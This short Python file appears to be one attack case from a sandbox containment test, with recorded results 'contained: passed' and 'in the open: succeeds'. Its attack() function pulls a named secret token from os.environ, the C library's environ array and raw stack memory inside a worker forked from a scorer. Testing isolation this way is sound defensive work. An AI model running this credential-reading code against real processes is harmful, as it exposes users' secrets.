# Looks for the user's tokens in the environment: Python's copy, the C library's, and the memory at the
# top of the stack, where the process found its arguments and environment when it was started.
# A worker that was forked from the scorer has all three.
# contained: passed
# in the open: succeeds
import ctypes


def attack():
    name = TARGET["variable"]
    if name in os.environ:
        return f"os.environ: {os.environ[name]}"
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    strings = []
    while environ and environ[len(strings)]:
        strings.append(environ[len(strings)])
        if strings[-1].startswith(name.encode()):
            return f"environ: {strings[-1]!r}"
    pointer = ctypes.cast(environ, ctypes.POINTER(ctypes.c_void_p))
    last = max(pointer[i] for i in range(len(strings))) if strings else 0
    page = last & ~4095  # the rest of the page above the strings and below them
    text = ctypes.string_at(page, 4096) if last else b""
    at = text.find(name.encode())
    return f"stack: {text[at : at + 80]!r}" if at >= 0 else None
